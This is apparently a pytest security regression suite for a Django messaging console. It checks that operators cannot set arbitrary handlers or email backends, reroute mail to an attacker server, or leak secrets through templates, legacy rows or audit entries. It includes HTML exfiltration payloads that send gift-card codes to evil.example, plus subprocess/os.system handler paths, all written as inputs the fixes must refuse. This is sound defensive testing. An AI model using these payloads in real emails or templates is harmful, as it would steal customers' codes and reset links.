"""Issue 16, reviewed across the seams (items 1, 2, 5, 18, 19): what the fixes left open
between parts, as each console role, an anonymous visitor or an API key would try it.

- Dotted paths Ops could still set: `Inbox.handler` (imported and called per inbound
  message) and an `anymail` provider's backend (Django's file backend writes anywhere).
- Where messages go: Ops rerouting a provider to their server caught every reset link;
  an ESP API key shown on the provider page opened the ESP's logs.
- A template carrying a secret off to its author (image, style, form, foreign link).
- Secrets and credentials stored in clear before the upgrade; erase and audit gaps.
"""

import json

import pytest

from growth.giftcards import issue_gift_card
from messaging.contacts import create_contact, erase_contact
from messaging.content.versions import activate_template_version, save_template_version
from messaging.delivery.inbound import receive_inbound, run_handler
from messaging.delivery.outbox import enqueue_message
from messaging.delivery.sending import send_due_messages
from messaging.models import AuditEntry, Inbox, InboxMessage, OutboxBody, OutboxMessage, Provider, SandboxMessage, Template, TrackedLink
from tests.conftest import make_user
from tests.security.test_webhooks_erase import rows_holding

pytestmark = pytest.mark.django_db

INBOXES = "/admin/messaging/inbox/"
PROVIDERS = "/admin/messaging/provider/"
FAILURES = "/admin/django_q/failure/"
CALLS: list = []


def pwned(inbound) -> str:
    """Stands for subprocess.getoutput & co: a function nobody registered as a handler."""
    CALLS.append(inbound.pk)
    return "ran"


@pytest.fixture(autouse=True)
def _clean(settings):
    settings.MAILROOM_KICK_CLUSTER = False
    CALLS.clear()


def inbox_form(**overrides) -> dict:
    return {
        "name": "Replies",
        "channel": "sms",
        "address": "+33700000009",
        "handler": "messaging.delivery.inbound.handle_stop_words",
        "is_active": "on",
        **overrides,
    }


# --- Inbox.handler ----------------------------------------------------------------------------
@pytest.mark.parametrize("handler", ["subprocess.getoutput", "os.system", "tests.security.test_review1_seams.pwned"])
def test_ops_cannot_point_an_inbox_handler_at_an_arbitrary_function(client, ops, handler):
    client.force_login(ops)
    response = client.post(f"{INBOXES}add/", inbox_form(handler=handler))
    assert response.status_code == 200  # the form again, with an error on the handler
    assert "handler" in response.context["adminform"].form.errors
    assert not Inbox.objects.exists()
    inbox = Inbox.objects.create(name="Replies", channel="sms", address="+33700000009")
    response = client.post(f"{INBOXES}{inbox.pk}/change/", inbox_form(handler=handler))
    assert response.status_code == 200 and "handler" in response.context["adminform"].form.errors
    inbox.refresh_from_db()
    assert inbox.handler == "messaging.delivery.inbound.handle_stop_words"


def test_ops_can_still_pick_a_registered_inbox_handler(client, ops):
    client.force_login(ops)
    response = client.post(f"{INBOXES}add/", inbox_form())
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert Inbox.objects.get().handler == "messaging.delivery.inbound.handle_stop_words"


def test_an_inbound_message_never_runs_an_unregistered_handler_that_got_into_the_row():
    Inbox.objects.create(name="Replies", channel="sms", address="+33700000009", handler="tests.security.test_review1_seams.pwned")
    inbound = receive_inbound(channel="sms", from_address="+33612345678", to_address="+33700000009", body="hello", external_id="in-1")
    assert CALLS == []
    assert inbound.status == InboxMessage.Status.FAILED and "not one of Mailroom's inbound handlers" in inbound.result
    run_handler(inbound)  # the re-run path (process_notifications --inbox-only) too
    assert CALLS == []


# --- anymail provider backend -------------------------------------------------------------------
def provider_form(**config) -> dict:
    return {
        "name": "ESP",
        "channel": "email",
        "kind": "anymail",
        "priority": "10",
        "is_active": "on",
        "config": json.dumps(config),
        "rate_per_second": "",
        "rate_per_hour": "",
    }


FILE_BACKEND = "django.core.mail.backends.filebased.EmailBackend"


@pytest.mark.parametrize(
    "backend", [FILE_BACKEND, "anymail.backends.console.EmailBackend", "subprocess.Popen", "anymail.backends.base.AnymailBaseBackend"]
)
def test_no_one_can_give_an_esp_provider_an_arbitrary_backend_path(client, admin_user, backend, tmp_path):
    client.force_login(admin_user)
    response = client.post(f"{PROVIDERS}add/", provider_form(backend=backend, options={"file_path": str(tmp_path)}))
    assert response.status_code == 200
    assert "config" in response.context["adminform"].form.errors
    assert not Provider.objects.exists()


def test_a_provider_row_with_the_file_backend_writes_no_file_and_fails_visibly(tmp_path):
    Provider.objects.create(
        name="ESP", channel="email", kind="anymail", config={"backend": FILE_BACKEND, "options": {"file_path": str(tmp_path / "drop")}}
    )
    message = enqueue_message(channel="email", to="ada@example.com", subject="Hi", text="Hello")
    send_due_messages()
    message.refresh_from_db()
    assert not (tmp_path / "drop").exists()
    assert message.status == OutboxMessage.Status.FAILED and "not an email service backend" in message.error


def test_admin_can_still_configure_an_anymail_esp(client, admin_user):
    client.force_login(admin_user)
    response = client.post(f"{PROVIDERS}add/", provider_form(backend="anymail.backends.mailgun.EmailBackend", options={}))
    assert response.status_code == 302, response.context["adminform"].form.errors


# --- where messages go ----------------------------------------------------------------------------
SMTP = {"host": "smtp.mailroom.example", "port": 587, "username": "mailroom", "password_secret": "SMTP"}
ATTACKER = {"host": "mx.attacker.example", "port": 25}


def smtp_form(provider: Provider, **changes) -> dict:
    return {
        "name": provider.name,
        "channel": "email",
        "kind": "smtp",
        "priority": "10",
        "is_active": "on",
        "config": json.dumps(SMTP),
        "rate_per_second": "",
        "rate_per_hour": "",
        **changes,
    }


def test_ops_cannot_reroute_email_to_their_own_server_to_catch_reset_links(client, ops):
    """A provider's host (or URL, backend, account) decides who receives every message, reset
    links included: Ops pointing the SMTP provider at their server, then asking a reset for
    the admin, read the link in their own mailbox."""
    provider = Provider.objects.create(name="Mail", channel="email", kind="smtp", config=SMTP)
    client.force_login(ops)
    client.post(f"{PROVIDERS}{provider.pk}/change/", smtp_form(provider, config=json.dumps(ATTACKER)))
    client.post(
        f"{PROVIDERS}{provider.pk}/change/",
        smtp_form(
            provider,
            kind="anymail",
            config=json.dumps({"backend": "anymail.backends.mailgun.EmailBackend", "options": {"api_key": "attacker-account"}}),
        ),
    )
    provider.refresh_from_db()
    assert provider.config == SMTP and provider.kind == "smtp"
    assert client.get(f"{PROVIDERS}add/").status_code == 403
    response = client.post(f"{PROVIDERS}add/", {**smtp_form(provider, config=json.dumps(ATTACKER)), "name": "Mine", "priority": "0"})
    assert response.status_code == 403
    assert Provider.objects.count() == 1


def test_ops_still_runs_providers_priority_rate_and_pause(client, ops):
    provider = Provider.objects.create(name="Mail", channel="email", kind="smtp", config=SMTP)
    client.force_login(ops)
    response = client.post(f"{PROVIDERS}{provider.pk}/change/", {**smtp_form(provider, priority="3", rate_per_second="5"), "is_active": ""})
    assert response.status_code == 302, response.context["adminform"].form.errors
    provider.refresh_from_db()
    assert (provider.priority, provider.rate_per_second, provider.is_active, provider.config) == (3, 5, False, SMTP)


def test_admin_configures_where_messages_go(client, admin_user):
    provider = Provider.objects.create(name="Mail", channel="email", kind="smtp", config=SMTP)
    client.force_login(admin_user)
    response = client.post(
        f"{PROVIDERS}{provider.pk}/change/", smtp_form(provider, config=json.dumps({**SMTP, "host": "smtp2.mailroom.example"}))
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    provider.refresh_from_db()
    assert provider.config["host"] == "smtp2.mailroom.example"


# --- a secret carried off by the template it is rendered into --------------------------------------
EXFILTRATING = [
    '<p>Your code</p><img src="https://evil.example/p.gif?c={{ gift_card.code }}" alt="">',
    '<div style="background:url(https://evil.example/{{ gift_card.code }})">Your code: {{ gift_card.code }}</div>',
    '<p><a href="https://evil.example/redeem?c={{ gift_card.code }}">Redeem</a></p>',
    "<style>@import url(https://evil.example/{{ gift_card.code }});</style><p>{{ gift_card.code }}</p>",
    '<p>{{ gift_card.code }}</p><!--[if mso]><img src="https://evil.example/{{ gift_card.code }}"><![endif]-->',
    '<form action="https://evil.example/"><textarea name="c">{{ gift_card.code }}</textarea><button>Redeem</button></form>',
    '<p>{{ gift_card.code }}</p><meta http-equiv="refresh" content="0;url=https://evil.example/{{ gift_card.code }}">',
]


@pytest.mark.parametrize("body", EXFILTRATING)
def test_a_marketer_cannot_edit_the_gift_card_template_to_send_codes_to_their_server(
    marketer, contact, body, django_capture_on_commit_callbacks
):
    """The outbox is sealed, but the template is the marketer's: an image (fetched as soon as
    the mail is opened) or a link to their server carried each code off; a customer's card
    is then redeemed at the shop by whoever holds the code."""
    from django.core.management import call_command

    call_command("sync_templates", verbosity=0)
    template = Template.objects.get(key="gift-card-delivered", locale=contact.locale)
    version = save_template_version(actor=marketer, template=template, subject="A gift for you", body_format="html", body=body)
    activate_template_version(actor=marketer, version=version)
    with django_capture_on_commit_callbacks(execute=True):
        issued = issue_gift_card(actor=marketer, amount="50", recipient=contact, sender_name="Grace")
    assert not OutboxMessage.objects.filter(dedup_key=f"gift-card-delivered:{issued.card.pk}").exists()


def test_a_secret_may_still_be_text_or_a_whole_link(marketer, contact, django_capture_on_commit_callbacks):
    from django.core.management import call_command

    call_command("sync_templates", verbosity=0)  # the catalog template shows the code as text
    with django_capture_on_commit_callbacks(execute=True):
        issued = issue_gift_card(actor=marketer, amount="50", recipient=contact, sender_name="Grace")
    assert OutboxMessage.objects.filter(dedup_key=f"gift-card-delivered:{issued.card.pk}", is_sensitive=True).exists()
    reset = enqueue_message(
        channel="email",
        to="ada@example.com",
        subject="Reset",
        text="{{ url }}",
        html='<a href="{{ url }}">Reset</a>',
        secrets={"url": "https://mailroom.test/e/reset/t0ken/"},
    )
    assert reset.is_sensitive


# --- GDPR erase: links personalised with her address --------------------------------------------
def test_erasing_a_contact_leaves_her_address_in_no_tracked_link(admin_user):
    """A template linking to `https://shop.example/account?email={{ contact.email }}` stored her
    address in a TrackedLink (a shared table with no contact column), which erasure missed."""

    contact = create_contact(actor=admin_user, email="wendy@example.com", first_name="Wendy")
    other = create_contact(actor=admin_user, email="olga@example.com", first_name="Olga")
    for someone in (contact, other):
        enqueue_message(
            channel="email",
            contact=someone,
            subject="Your account",
            html='<p><a href="https://shop.example/account?email={{ contact.email }}&amp;n=1">Account</a> <a href="https://shop.example/">Shop</a></p>',
        )
    assert TrackedLink.objects.filter(url__icontains="wendy").exists()
    links = TrackedLink.objects.count()
    erase_contact(actor=admin_user, contact=contact)
    assert rows_holding("wendy") == []
    assert TrackedLink.objects.count() == links  # clicks already counted keep their link
    assert TrackedLink.objects.filter(url__icontains="olga@example.com").exists()  # nobody else's link changes
    assert TrackedLink.objects.filter(url="https://shop.example/").exists()


# --- audit: setting someone else's password -------------------------------------------------------
def test_setting_another_users_password_in_the_console_is_audited_without_the_password(client, admin_user):
    """The user page's "set password" form takes an account over as surely as a role grant,
    yet left only Django's own history (no AuditEntry)."""

    victim = make_user("victim", "Ops")
    client.force_login(admin_user)
    password = "a new long pass phrase 77"
    response = client.post(
        f"/admin/auth/user/{victim.pk}/password/", {"password1": password, "password2": password, "usable_password": "true"}
    )
    assert response.status_code == 302
    victim.refresh_from_db()
    assert victim.check_password(password)
    entry = AuditEntry.objects.get(verb="password_set", target_type="auth.user", target_id=str(victim.pk))
    assert entry.actor == admin_user
    assert password not in str(list(AuditEntry.objects.values_list("changes", "target_repr")))


def test_a_refused_password_form_is_not_audited(client, admin_user):
    victim = make_user("victim", "Ops")
    client.force_login(admin_user)
    response = client.post(f"/admin/auth/user/{victim.pk}/password/", {"password1": "a", "password2": "b", "usable_password": "true"})
    assert response.status_code == 200
    assert not AuditEntry.objects.filter(verb="password_set").exists()


# --- secrets written before the upgrade ---------------------------------------------------------------
LEGACY_LINK = "http://127.0.0.1:8000/e/reset/legacy-working-token-0123456789/"
LEGACY_CODE = "GIFT-ABCD-EFGH-JKLM"


def legacy_rows():
    """What the outbox and the sandbox held before messages were sealed: bodies in clear."""
    from django.utils import timezone

    NOW = timezone.now()
    rows = [
        OutboxMessage.objects.create(
            channel="email",
            to_address="boss@example.com",
            subject="Reset your Mailroom password",
            body_text=f"Open {LEGACY_LINK}",
            status="sent",
            metadata={"purpose": "password_reset"},
            next_attempt_at=NOW,
        ),
        OutboxMessage.objects.create(
            channel="email",
            to_address="ada@example.com",
            subject="Grace sent you a gift card",
            body_text=f"Code: {LEGACY_CODE}",
            body_html=f"<p>{LEGACY_CODE}</p>",
            status="sent",
            dedup_key="gift-card-delivered:7",
            next_attempt_at=NOW,
        ),
        OutboxMessage.objects.create(
            channel="email", to_address="ada@example.com", subject="Newsletter", body_text="Hello", status="sent", next_attempt_at=NOW
        ),
    ]
    for row in rows:
        SandboxMessage.objects.create(
            message=row, channel="email", to_address=row.to_address, subject=row.subject, body_text=row.body_text, body_html=row.body_html
        )
    return rows


def run_upgrade_migrations():
    import importlib

    from django.apps import apps as global_apps

    for module in ("messaging.migrations.0012_sec_review1", "growth.migrations.0003_sec_review1"):
        migration = importlib.import_module(module)
        migration.hide(global_apps, None)


@pytest.mark.parametrize("role", ["Ops", "Support", "Marketer", "Admin"])
def test_secrets_stored_in_clear_before_the_upgrade_are_hidden_by_it(client, role):
    """Sealing applies to new messages; reset links, verification links and gift-card codes
    (which never expire) already in the outbox and the sandbox stayed readable by every
    role, and searchable one character at a time with ?body_text__contains=."""

    reset, gift, newsletter = legacy_rows()
    run_upgrade_migrations()
    client.force_login(make_user(f"legacy-{role.lower()}", role))

    pages = [f"/admin/messaging/outboxmessage/{row.pk}/change/" for row in (reset, gift)]
    pages += [f"/admin/messaging/sandboxmessage/{row.pk}/change/" for row in SandboxMessage.objects.filter(message__in=[reset, gift])]
    pages += ["/admin/messaging/outboxmessage/?body_text__contains=GIFT-AB", "/admin/messaging/sandboxmessage/?body_text__contains=GIFT-AB"]
    seen = "".join(client.get(page).content.decode() for page in pages)
    assert LEGACY_LINK not in seen and LEGACY_CODE not in seen
    for model in (OutboxMessage, OutboxBody, SandboxMessage):
        stored = repr(list(model.objects.values()))
        assert LEGACY_LINK not in stored and LEGACY_CODE not in stored
    newsletter.refresh_from_db()
    assert newsletter.body_text == "Hello" and not newsletter.is_sensitive  # nothing else touched
    assert OutboxMessage.objects.filter(pk__in=[reset.pk, gift.pk], is_sensitive=True).count() == 2


def test_provider_secrets_audited_in_clear_before_the_upgrade_are_hidden_by_it(client, ops, support):
    """Before audit entries hid secret values, saving a provider recorded its config diff as
    it was: an ESP api_key or a DKIM private key inline stayed readable by Ops and Support
    (who read the audit trail) after the upgrade."""
    import importlib

    from django.apps import apps as global_apps

    leaked = "key-live-0123456789abcdef"
    entry = AuditEntry.objects.create(
        verb="updated",
        target_type="messaging.provider",
        target_id="1",
        target_repr="ESP (Email)",
        changes={"config": {"before": {}, "after": {"backend": "anymail.backends.mailgun.EmailBackend", "options": {"api_key": leaked}}}},
    )
    other = AuditEntry.objects.create(
        verb="updated", target_type="messaging.contact", target_id="2", changes={"first_name": {"before": "A", "after": "B"}}
    )
    importlib.import_module("messaging.migrations.0012_sec_review1").hide_audit(global_apps, None)
    for user in (ops, support):
        client.force_login(user)
        page = client.get(f"/admin/messaging/auditentry/{entry.pk}/change/")
        assert page.status_code == 200 and leaked not in page.content.decode()
    entry.refresh_from_db()
    assert leaked not in str(entry.changes)
    assert entry.changes["config"]["after"]["backend"] == "anymail.backends.mailgun.EmailBackend"  # what is not secret stays
    other.refresh_from_db()
    assert other.changes == {"first_name": {"before": "A", "after": "B"}}


def test_ops_cannot_read_an_esp_api_key_on_the_provider_page(client, ops):
    """With the ESP's API key (anymail takes it inline in `options`) Ops could read the ESP's
    own message logs, reset links included, or send as the company."""
    api_key = "key-live-0123456789abcdef"
    provider = Provider.objects.create(
        name="ESP",
        channel="email",
        kind="anymail",
        config={"backend": "anymail.backends.mailgun.EmailBackend", "options": {"api_key": api_key}},
    )
    client.force_login(ops)
    for url in (f"{PROVIDERS}{provider.pk}/change/", PROVIDERS, f"{PROVIDERS}{provider.pk}/history/"):
        page = client.get(url)
        assert page.status_code == 200 and api_key not in page.content.decode()
    assert "anymail.backends.mailgun.EmailBackend" in client.get(f"{PROVIDERS}{provider.pk}/change/").content.decode()


# --- audit: Ops deleting the failed jobs that show a refused function ---------------------------------
def test_deleting_failed_jobs_is_audited(client, ops):
    """A refused job (refuse_unregistered_job: "subprocess.getoutput is not registered") shows
    in Failed jobs; Ops may delete failures, and doing so left no trace of the attempt."""
    from django.utils import timezone
    from django_q.models import Task

    now = timezone.now()
    for n in (1, 2):
        Task.objects.create(
            id=f"f{n}", name=f"refused-{n}", func="messaging.tasks.refuse_unregistered_job", started=now, stopped=now, success=False
        )
    client.force_login(ops)
    response = client.post(FAILURES, {"action": "delete_selected", "_selected_action": ["f1", "f2"], "post": "yes"})
    assert response.status_code == 302 and not Task.objects.exists()
    entries = AuditEntry.objects.filter(verb="deleted", target_type="django_q.failure", actor=ops)
    assert sorted(entries.values_list("target_repr", flat=True)) == ["refused-1", "refused-2"]
    Task.objects.create(id="f3", name="refused-3", func="messaging.tasks.refuse_unregistered_job", started=now, stopped=now, success=False)
    assert client.post(f"{FAILURES}f3/delete/", {"post": "yes"}).status_code == 302  # one by one too
    assert AuditEntry.objects.filter(verb="deleted", target_type="django_q.failure", target_repr="refused-3").exists()
